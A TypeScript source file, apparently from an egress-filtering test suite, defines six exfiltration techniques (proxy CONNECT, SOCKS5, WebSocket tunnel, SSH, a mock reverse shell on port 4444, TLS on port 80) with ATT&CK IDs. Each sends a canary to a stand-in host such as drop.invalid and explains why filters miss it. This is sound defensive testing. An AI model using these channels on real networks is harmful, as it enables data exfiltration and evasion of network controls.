/** Ways to carry anything inside something else: proxies, tunnels, shells. */
import { plain, request, secure, toAddress, toCollector } from "../probe/fire.ts";
import type { Technique } from "../technique.ts";

export const tunnels: readonly Technique[] = [
  {
    id: "connect-proxy",
    name: "an HTTP proxy of the attacker's",
    class: "T22",
    attack: ["T1090.002", "T1572"],
    incidents: [],
    does: "Asks a proxy on port 3128 to CONNECT somewhere, with the canary in a header.",
    works: "Behind a proxy every name is inside; a filter sees one connection to one host.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 3128 },
    probe: (shot) =>
      toAddress(shot, 4, (address) =>
        plain(
          address,
          3128,
          [
            request("drop.invalid:443", "", {
              method: "CONNECT",
              path: "drop.invalid:443",
              headers: { "X-K": shot.canary },
            }),
          ],
          shot,
        ),
      ),
  },
  {
    id: "socks5-proxy",
    name: "a SOCKS proxy of the attacker's",
    class: "T22",
    attack: ["T1090.002", "T1095"],
    incidents: [],
    does: "Opens SOCKS 5 (RFC 1928) on port 1080; the canary is the name asked for.",
    works: "The greeting is three bytes of no protocol that filters know.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 1080 },
    probe: (shot) =>
      toAddress(shot, 4, (address) => {
        const name = `${shot.canary}.invalid`;
        const ask = Buffer.concat([Buffer.from([5, 1, 0, 3, name.length]), Buffer.from(name), Buffer.from([1, 0xbb])]);
        return plain(address, 1080, [Buffer.from([5, 1, 0]), ask], shot);
      }),
  },
  {
    id: "tunnel-service",
    name: "a WebSocket to a tunnel service",
    class: "T13",
    attack: ["T1572", "T1071.001"],
    incidents: [{ name: "Trivy (TeamPCP)", year: 2026 }],
    does: "Upgrades to a WebSocket over TLS at a name that stands for a tunnel service, canary in the path.",
    works: "Anybody can have a name under a tunnel service within seconds, with a good certificate.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 443 },
    probe: (shot) =>
      toCollector(shot, (address) => {
        const headers = {
          Upgrade: "websocket",
          "Sec-WebSocket-Version": "13",
          "Sec-WebSocket-Key": "c2FsbHlwb3J0LXNpbXVsYQ==",
        };
        const name = shot.collector.name!;
        const upgrade = request(name, "", { method: "GET", path: `/t/${shot.canary}`, headers });
        return secure(address, 443, name, [upgrade.replace("Connection: close", "Connection: Upgrade")], shot);
      }),
  },
  {
    id: "ssh-tunnel",
    name: "SSH to an unknown host",
    class: "T13",
    attack: ["T1572", "T1021.004"],
    incidents: [],
    does: "Opens SSH on port 22 of an unknown name; the canary is in the client's banner (RFC 4253).",
    works: "Port 22 is open in many places because of git.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 22 },
    probe: (shot) =>
      toCollector(shot, (address) => plain(address, 22, [`SSH-2.0-OpenSSH_9.9 ${shot.canary}\r\n`], shot)),
  },
  {
    id: "reverse-shell",
    name: "a reverse shell",
    class: "T2",
    attack: ["T1059.004", "T1095"],
    incidents: [],
    does: "Connects to port 4444 of a bare address and writes a prompt with the canary.",
    works: "It is the oldest way out and needs one line of bash.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 4444 },
    probe: (shot) => toAddress(shot, 4, (address) => plain(address, 4444, [`runner@${shot.canary}:~$ `], shot)),
  },
  {
    id: "tls-on-plain-port",
    name: "TLS on the port of plain HTTP",
    class: "T14",
    attack: ["T1571", "T1573.002"],
    incidents: [],
    does: "Opens TLS on port 80 of a bare address.",
    works: "A filter that reads Host on port 80 finds none.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 80 },
    probe: (shot) =>
      toAddress(shot, 4, (address) => secure(address, 80, shot.site.http ?? "", [request(address, shot.canary)], shot)),
  },
];
